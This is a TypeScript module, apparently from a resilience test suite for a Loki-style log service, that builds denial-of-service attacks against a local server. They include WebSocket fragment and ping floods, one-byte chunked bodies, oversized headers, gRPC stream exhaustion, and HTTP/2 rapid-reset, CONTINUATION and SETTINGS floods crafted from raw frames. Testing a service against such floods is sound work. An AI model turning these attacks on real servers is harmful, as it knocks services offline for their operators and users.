/** Attacks below the requests: WebSocket frames, chunks, headers, HTTP/2 frames of the gRPC port. */
import { connect } from 'node:http2';
import { connect as connectSocket } from 'node:net';
import type { Socket } from 'node:net';
import { sleep } from './attacker.ts';
import type { Attack, Attacker } from './attacker.ts';
import { openTail } from './bystander-attacks.ts';

const attackMs = 8_000;

/** Writes `bytes` to new connections again and again, each of which `open` prepares. */
async function writing(
  connections: number,
  open: () => Promise<Socket>,
  bytes: Buffer,
  writesAConnection = Infinity,
): Promise<void> {
  const endMs = performance.now() + attackMs;
  await Promise.all(
    Array.from({ length: connections }, async () => {
      while (performance.now() < endMs) {
        const socket = await open();
        socket.resume();
        for (let i = 0; i < writesAConnection && performance.now() < endMs && !socket.destroyed; i++) {
          if (!socket.write(bytes)) await Promise.race([drained(socket), sleep(100)]);
          else await sleep(0);
        }
        socket.destroy();
      }
    }),
  );
}

function drained(socket: Socket): Promise<void> {
  return new Promise((resolve) => {
    socket.once('drain', resolve);
    socket.once('close', resolve);
  });
}

/** Masked text frames of a byte each: a message that begins and never ends. */
function fragments(count: number): Buffer {
  const frame = (opcode: number) => [opcode, 0x81, 0, 0, 0, 0, 0x61];
  return Buffer.from([...frame(0x01), ...Array.from({ length: count }, () => frame(0x00)).flat()]);
}

const pings = Buffer.from(Array.from({ length: 10_000 }, () => [0x89, 0x80, 0, 0, 0, 0]).flat());

const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const frameTypes = { headers: 1, reset: 3, settings: 4, ping: 6, continuation: 9 };
const endHeaders = 0x4;

function frame(type: number, flags: number, stream: number, payload: Uint8Array = new Uint8Array()): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** Header fields of a gRPC call, as literals without an index. */
function callHeaders(): Buffer {
  const fields = [
    [':method', 'POST'],
    [':scheme', 'http'],
    [':path', '/lokits.v1.Distributor/Push'],
    [':authority', 'x'],
    ['content-type', 'application/grpc'],
    ['te', 'trailers'],
  ];
  return Buffer.concat(
    fields.map(([name, value]) =>
      Buffer.concat([
        Buffer.from([0, name.length]),
        Buffer.from(name),
        Buffer.from([value.length]),
        Buffer.from(value),
      ]),
    ),
  );
}

function openGrpc({ grpcPort }: Attacker, settings = frame(frameTypes.settings, 0, 0)): Promise<Socket> {
  return new Promise((resolve) => {
    const socket = connectSocket(grpcPort, '127.0.0.1', () => {
      socket.write(Buffer.concat([preface, settings]));
      resolve(socket);
    });
    socket.on('error', () => undefined);
  });
}

function http2Attack(name: string, about: string, frames: () => Buffer): Attack {
  return { name, about, run: (attacker) => writing(4, () => openGrpc(attacker), frames(), 200) };
}

export const protocolAttacks: readonly Attack[] = [
  {
    name: 'fragments of a byte',
    about: 'WebSocket messages in frames of a byte each',
    run: (attacker) => writing(10, () => openTail(attacker, '{app="attack"}'), fragments(20_000), 50),
  },
  {
    name: 'pings',
    about: 'WebSocket pings, 10,000 at once',
    run: (attacker) => writing(10, () => openTail(attacker, '{app="attack"}'), pings, 50),
  },
  {
    name: 'chunks of a byte',
    about: 'bodies in chunks of a byte each',
    run: (attacker) => {
      const head =
        'POST /loki/api/v1/push HTTP/1.1\r\nHost: x\r\nX-Scope-OrgID: attacker\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n';
      const open = async () => {
        const socket = await attacker.open();
        socket.write(head);
        return socket;
      };
      return writing(8, open, Buffer.from('1\r\n \r\n'.repeat(10_000)), 100);
    },
  },
  {
    name: 'large headers',
    about: 'requests of 15 KB of headers',
    run: (attacker) => {
      const headers = Object.fromEntries(Array.from({ length: 200 }, (_, i) => [`x-${i}`, 'v'.repeat(60)]));
      return attacker.flood(64, attackMs, () => attacker.send('/loki/api/v1/labels', { headers }));
    },
  },
  {
    name: 'tenants of a query',
    about: 'queries over as many tenants as a header has room for',
    run: (attacker) => {
      const tenant = Array.from({ length: 3_500 }, (_, i) => i.toString(36)).join('|');
      const path = `/loki/api/v1/query_range?query=${encodeURIComponent('{app="x"}')}`;
      return attacker.flood(8, attackMs, () => attacker.send(path, { tenant }));
    },
    flags: ['-querier.multi-tenant-queries-enabled=true'],
  },
  {
    name: 'gRPC streams',
    about: '10,000 open calls on four connections',
    async run({ grpcPort }) {
      const sessions = Array.from({ length: 4 }, () =>
        connect(`http://127.0.0.1:${grpcPort}`).on('error', () => undefined),
      );
      for (let i = 0; i < 10_000; i++) {
        const session = sessions[i % sessions.length];
        if (session.destroyed) continue;
        const call = session.request({
          ':method': 'POST',
          ':path': '/lokits.v1.Distributor/Push',
          'content-type': 'application/grpc',
        });
        call.on('error', () => undefined);
        call.write('x');
        if (i % 100 === 0) await sleep(10);
      }
      await sleep(attackMs);
      for (const session of sessions) session.destroy();
    },
  },
  http2Attack('gRPC rapid reset', 'calls that are reset at once', () => {
    const headers = callHeaders();
    return Buffer.concat(
      Array.from({ length: 1_000 }, (_, i) => [
        frame(frameTypes.headers, endHeaders, 2 * i + 1, headers),
        frame(frameTypes.reset, 0, 2 * i + 1, Buffer.from([0, 0, 0, 8])),
      ]).flat(),
    );
  }),
  http2Attack('gRPC continuations', 'headers that never end', () =>
    Buffer.concat([
      frame(frameTypes.headers, 0, 1, callHeaders()),
      ...Array.from({ length: 2_000 }, (_, i) =>
        frame(frameTypes.continuation, 0, 1, Buffer.from(`\0\x05x${String(i).padStart(4, '0')}\x01y`)),
      ),
    ]),
  ),
  http2Attack('gRPC settings', 'settings and pings without end', () =>
    Buffer.concat(
      Array.from({ length: 5_000 }, () => [
        frame(frameTypes.settings, 0, 0, Buffer.from([0, 4, 0, 0, 0xff, 0xff])),
        frame(frameTypes.ping, 0, 0, Buffer.alloc(8)),
      ]).flat(),
    ),
  ),
];
